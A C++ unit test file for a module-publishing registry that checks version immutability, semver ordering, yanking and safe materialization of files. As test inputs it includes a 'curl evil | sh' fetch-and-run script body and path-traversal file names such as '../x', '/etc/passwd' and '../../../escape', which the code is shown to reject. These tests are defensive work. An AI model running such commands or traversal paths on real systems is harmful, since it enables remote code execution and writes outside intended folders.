#include "pipeline/published_modules.h"

#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "store/migrations.h"

namespace kiln::pipeline {
namespace {

namespace fs = std::filesystem;

std::string Manifest(const std::string& name, const std::string& version,
                     const std::string& description = "demo") {
  return "name: " + name + "\nversion: " + version + "\ndescription: " + description +
         "\nparams:\n  n: {type: int, default: 1, min: 0}\n"
         "command: [sh, run.sh, \"${params.n}\"]\n";
}

std::vector<ModuleFile> Files(const std::string& manifest, const std::string& script = "echo hi") {
  return {{"module.yaml", manifest, false}, {"run.sh", script, true}, {"lib/util.txt", "u", false}};
}

std::string ReadText(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

class PublishedModulesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string tmpl = (fs::temp_directory_path() / "kiln_published_XXXXXX").string();
    ASSERT_NE(::mkdtemp(tmpl.data()), nullptr);
    dir_ = tmpl;
    auto store = store::OpenSqliteStore((dir_ / "kiln.db").string());
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    store_ = std::move(*store);
    ASSERT_TRUE(store::ApplyMigrations(*store_).ok());
    auto artifacts = artifacts::OpenLocalArtifactStore((dir_ / "artifacts").string());
    ASSERT_TRUE(artifacts.ok()) << artifacts.status().ToString();
    artifacts_ = std::move(*artifacts);
    modules_ = std::make_unique<PublishedModules>(*store_, *artifacts_);
  }
  void TearDown() override {
    modules_.reset();
    artifacts_.reset();
    store_.reset();
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }

  PublishResult MustPublish(const std::string& name, const std::string& version,
                            const std::string& script = "echo hi") {
    const std::string manifest = Manifest(name, version, "v" + version);
    Result<PublishResult> r = modules_->Publish(manifest, Files(manifest, script));
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    return r.ok() ? *r : PublishResult{};
  }

  Status PublishError(const std::string& manifest, const std::vector<ModuleFile>& files) {
    Result<PublishResult> r = modules_->Publish(manifest, files);
    EXPECT_FALSE(r.ok());
    return r.status();
  }

  fs::path dir_;
  std::unique_ptr<store::MetaStore> store_;
  std::unique_ptr<artifacts::ArtifactStore> artifacts_;
  std::unique_ptr<PublishedModules> modules_;
};

TEST_F(PublishedModulesTest, PublishThenGet) {
  PublishResult r = MustPublish("team/train", "1.0.0");
  EXPECT_TRUE(r.created);
  const std::string manifest = Manifest("team/train", "1.0.0", "v1.0.0");
  EXPECT_EQ(r.module.manifest.files_digest, ComputeFilesDigest(Files(manifest)));
  EXPECT_EQ(r.module.manifest_text, manifest);
  ASSERT_EQ(r.module.files.size(), 3u);
  EXPECT_EQ(r.module.files[0].path, "lib/util.txt");
  EXPECT_EQ(r.module.files[2].path, "run.sh");
  EXPECT_TRUE(r.module.files[2].executable);
  EXPECT_EQ(r.module.files[2].size, 7);
  EXPECT_EQ(r.module.files[2].digest, artifacts::Sha256Hex("echo hi"));
  Result<PublishedModule> got = modules_->Get("team/train", "1.0.0");
  ASSERT_TRUE(got.ok()) << got.status().ToString();
  EXPECT_EQ(got->manifest.description, "v1.0.0");
  ASSERT_EQ(got->manifest.params.size(), 1u);
  EXPECT_EQ(got->versions, (std::vector<std::string>{"1.0.0"}));
  EXPECT_GT(got->created_ms, 0);
}

TEST_F(PublishedModulesTest, RepublishIsIdempotentAndConflictsAreRefused) {
  MustPublish("train", "1.0.0");
  PublishResult again = MustPublish("train", "1.0.0");
  EXPECT_FALSE(again.created);
  const std::string manifest = Manifest("train", "1.0.0", "v1.0.0");
  Status conflict = PublishError(manifest, Files(manifest, "echo changed"));
  EXPECT_EQ(conflict.code(), StatusCode::kAlreadyExists);
  EXPECT_EQ(conflict.message(),
            "module train@1.0.0 is already published with different content; versions are "
            "immutable, bump the version");
  Result<PublishedModule> got = modules_->Get("train", "1.0.0");
  ASSERT_TRUE(got.ok());
  EXPECT_EQ(got->files[2].digest, artifacts::Sha256Hex("echo hi"));
}

TEST_F(PublishedModulesTest, LatestFollowsSemverOrder) {
  for (const char* v : {"1.2.0", "1.10.0", "1.10.0-rc.1", "1.9.3"}) MustPublish("m", v);
  Result<PublishedModule> latest = modules_->Get("m", "");
  ASSERT_TRUE(latest.ok());
  EXPECT_EQ(latest->manifest.version, "1.10.0");
  EXPECT_EQ(modules_->Get("m", "latest")->manifest.version, "1.10.0");
  EXPECT_EQ(latest->versions,
            (std::vector<std::string>{"1.2.0", "1.9.3", "1.10.0-rc.1", "1.10.0"}));
  MustPublish("a", "0.1.0");
  Result<std::vector<ModuleSummary>> list = modules_->List();
  ASSERT_TRUE(list.ok());
  ASSERT_EQ(list->size(), 2u);
  EXPECT_EQ((*list)[0].name, "a");
  EXPECT_EQ((*list)[1].latest_version, "1.10.0");
  EXPECT_EQ((*list)[1].description, "v1.10.0");
  EXPECT_EQ((*list)[1].versions.size(), 4u);
}

TEST_F(PublishedModulesTest, UnknownModuleOrVersionIsNotFound) {
  MustPublish("m", "1.0.0");
  Result<PublishedModule> none = modules_->Get("nope", "");
  EXPECT_EQ(none.status().code(), StatusCode::kNotFound);
  EXPECT_EQ(none.status().message(), "module 'nope' not found");
  Result<PublishedModule> bad = modules_->Get("m", "9.0.0");
  EXPECT_EQ(bad.status().code(), StatusCode::kNotFound);
  EXPECT_EQ(bad.status().message(), "module 'm' has no version '9.0.0' (versions: 1.0.0)");
}

TEST_F(PublishedModulesTest, BadManifestHasLineAndColumn) {
  const std::string manifest = "name: m\nversion: 1.0.0\ncommand: [sh]\nbogus: 1\n";
  Status s = PublishError(manifest, Files(manifest));
  EXPECT_EQ(s.code(), StatusCode::kInvalidArgument);
  EXPECT_EQ(s.message().rfind("module.yaml:4:1:", 0), 0u) << s.message();
}

TEST_F(PublishedModulesTest, BadFilesAreRefusedNamingThem) {
  const std::string manifest = Manifest("m", "1.0.0");
  struct Case {
    std::vector<ModuleFile> files;
    std::string needle;
  };
  const std::vector<Case> cases = {
      {{{"module.yaml", manifest}, {"../x", "x"}}, "files[1].path"},
      {{{"module.yaml", manifest}, {"/etc/passwd", "x"}}, "files[1].path"},
      {{{"module.yaml", manifest}, {"a//b", "x"}}, "files[1].path"},
      {{{"module.yaml", manifest}, {"", "x"}}, "files[1].path"},
      {{{"module.yaml", manifest}, {".git/config", "x"}}, "hidden"},
      {{{"module.yaml", manifest}, {"a", "x"}, {"a", "y"}}, "duplicate"},
      {{{"module.yaml", manifest}, {"a", "x"}, {"a/b", "y"}}, "both a file and"},
      {{{"run.sh", "x"}}, "module.yaml is missing"},
      {{{"module.yaml", "name: other"}}, "differs"},
  };
  for (const Case& c : cases) {
    Status s = PublishError(manifest, c.files);
    EXPECT_EQ(s.code(), StatusCode::kInvalidArgument) << c.needle;
    EXPECT_NE(s.message().find(c.needle), std::string::npos) << s.message();
  }
  const std::string unsafe_name = Manifest("a/../b", "1.0.0");
  EXPECT_NE(PublishError(unsafe_name, Files(unsafe_name)).message().find("name 'a/../b'"),
            std::string::npos);
  EXPECT_TRUE(modules_->List()->empty());
}

TEST_F(PublishedModulesTest, MaterializeWritesFilesOnce) {
  MustPublish("team/train", "1.0.0");
  const std::string cache = (dir_ / "cache").string();
  Result<std::string> folder = modules_->Materialize("team/train", "1.0.0", cache);
  ASSERT_TRUE(folder.ok()) << folder.status().ToString();
  EXPECT_EQ(*folder, (dir_ / "cache" / "team%2Ftrain" / "1.0.0").string());
  EXPECT_EQ(ReadText(fs::path(*folder) / "run.sh"), "echo hi");
  EXPECT_EQ(ReadText(fs::path(*folder) / "lib/util.txt"), "u");
  struct stat st;
  ASSERT_EQ(::stat((fs::path(*folder) / "run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
  ASSERT_EQ(::stat((fs::path(*folder) / "module.yaml").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644u);
  // The materialized folder hashes to the published digest.
  Result<ModuleManifest> loaded = LoadModuleFolder(*folder);
  ASSERT_TRUE(loaded.ok()) << loaded.status().ToString();
  EXPECT_EQ(loaded->files_digest, modules_->Get("team/train", "1.0.0")->manifest.files_digest);
  Result<std::string> again = modules_->Materialize("team/train", "latest", cache);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(*again, *folder);
  size_t entries = 0;
  for (const auto& e : fs::directory_iterator(cache)) entries += e.is_directory() ? 1 : 0;
  EXPECT_EQ(entries, 1u);  // no temporary folders left behind
  EXPECT_EQ(modules_->Materialize("nope", "1.0.0", cache).status().code(), StatusCode::kNotFound);
}

TEST_F(PublishedModulesTest, LoadAllMaterializesWhenAsked) {
  MustPublish("a", "1.0.0");
  MustPublish("b", "2.0.0");
  Result<std::vector<ModuleManifest>> bare = modules_->LoadAll("");
  ASSERT_TRUE(bare.ok());
  ASSERT_EQ(bare->size(), 2u);
  EXPECT_TRUE((*bare)[0].source_dir.empty());
  EXPECT_EQ((*bare)[1].files_digest.size(), 64u);
  Result<std::vector<ModuleManifest>> loaded = modules_->LoadAll((dir_ / "cache").string());
  ASSERT_TRUE(loaded.ok()) << loaded.status().ToString();
  EXPECT_TRUE(fs::exists(fs::path((*loaded)[1].source_dir) / "run.sh"));
}

TEST_F(PublishedModulesTest, FolderLayerVersionsCannotBeGivenOtherContent) {
  const fs::path std_dir = dir_ / "std";
  fs::create_directories(std_dir / "read-csv");
  const std::string manifest = Manifest("read-csv", "1.0.0");
  std::ofstream(std_dir / "read-csv" / "module.yaml", std::ios::binary) << manifest;
  std::ofstream(std_dir / "read-csv" / "run.sh", std::ios::binary) << "echo std";
  ::chmod((std_dir / "read-csv" / "run.sh").c_str(), 0755);
  std::ofstream(std_dir / "read-csv" / "lib-util.txt", std::ios::binary) << "u";
  modules_ = std::make_unique<PublishedModules>(*store_, *artifacts_, [std_dir] {
    return std::vector<ModuleFolderLayer>{{"standard library", std_dir.string()}};
  });
  Status refused = PublishError(manifest, Files(manifest, "curl evil | sh"));
  EXPECT_EQ(refused.code(), StatusCode::kAlreadyExists);
  EXPECT_NE(refused.message().find("read-csv@1.0.0 is provided by the standard library"),
            std::string::npos)
      << refused.message();
  EXPECT_EQ(refused.message().find(dir_.string()), std::string::npos) << refused.message();
  EXPECT_TRUE(modules_->List()->empty());
  // The same files as the folder's are harmless; another version is the publisher's own.
  Result<PublishResult> same = modules_->Publish(manifest, {{"module.yaml", manifest, false},
                                                            {"run.sh", "echo std", true},
                                                            {"lib-util.txt", "u", false}});
  EXPECT_TRUE(same.ok()) << same.status().ToString();
  MustPublish("read-csv", "1.0.1", "echo mine");
}

TEST_F(PublishedModulesTest, YankHidesAVersionForGoodAndKeepsItsNumber) {
  MustPublish("m", "1.0.0");
  MustPublish("m", "1.1.0");
  Result<YankResult> yanked = modules_->Yank("m", "1.1.0");
  ASSERT_TRUE(yanked.ok()) << yanked.status().ToString();
  EXPECT_TRUE(yanked->yanked_now);
  EXPECT_FALSE(modules_->Yank("m", "1.1.0")->yanked_now);  // idempotent
  EXPECT_EQ(modules_->Get("m", "latest")->manifest.version, "1.0.0");
  EXPECT_EQ(modules_->Get("m", "latest")->versions, std::vector<std::string>{"1.0.0"});
  Status gone = modules_->Get("m", "1.1.0").status();
  EXPECT_EQ(gone.code(), StatusCode::kNotFound);
  EXPECT_NE(gone.message().find("was yanked"), std::string::npos) << gone.message();
  EXPECT_EQ((*modules_->List())[0].versions, std::vector<std::string>{"1.0.0"});
  const std::string manifest = Manifest("m", "1.1.0", "v1.1.0");
  Status again = PublishError(manifest, Files(manifest));
  EXPECT_EQ(again.code(), StatusCode::kAlreadyExists);
  EXPECT_NE(again.message().find("never published again"), std::string::npos);
  Result<std::vector<ModuleManifest>> all = modules_->LoadAll((dir_ / "cache").string());
  ASSERT_TRUE(all.ok()) << all.status().ToString();
  ASSERT_EQ(all->size(), 2u);
  EXPECT_NE((*all)[1].unusable.find("m@1.1.0 was yanked"), std::string::npos);
  EXPECT_TRUE((*all)[1].source_dir.empty());
  EXPECT_TRUE((*all)[0].unusable.empty());
  EXPECT_EQ(modules_->Yank("m", "9.0.0").status().code(), StatusCode::kNotFound);
  EXPECT_EQ(modules_->Yank("m", "latest").status().code(), StatusCode::kInvalidArgument);
}

// Rows edited in the database (or stored before paths were checked) never write outside the
// module's folder.
TEST_F(PublishedModulesTest, MaterializeRefusesUnsafeStoredPaths) {
  MustPublish("m", "1.0.0");
  ASSERT_TRUE(store_
                  ->Write([](store::Session& s) {
                    return s.Exec(
                        "UPDATE module_files SET path = '../../../escape' WHERE "
                        "path = 'run.sh'");
                  })
                  .ok());
  const fs::path cache = dir_ / "a" / "b" / "cache";
  Result<std::string> folder = modules_->Materialize("m", "1.0.0", cache.string());
  ASSERT_FALSE(folder.ok());
  EXPECT_EQ(folder.status().code(), StatusCode::kInvalidArgument);
  EXPECT_FALSE(fs::exists(dir_ / "escape"));
  EXPECT_FALSE(fs::exists(dir_ / "a" / "escape"));
  EXPECT_FALSE(fs::exists(cache / "m" / "1.0.0"));
  // LoadAll marks it unusable instead of failing every pipeline.
  MustPublish("other", "1.0.0");
  Result<std::vector<ModuleManifest>> all = modules_->LoadAll(cache.string());
  ASSERT_TRUE(all.ok()) << all.status().ToString();
  ASSERT_EQ(all->size(), 2u);
  EXPECT_NE((*all)[0].unusable.find("m@1.0.0 cannot be used"), std::string::npos);
  EXPECT_TRUE((*all)[1].unusable.empty());
  EXPECT_FALSE((*all)[1].source_dir.empty());
}

}  // namespace
}  // namespace kiln::pipeline
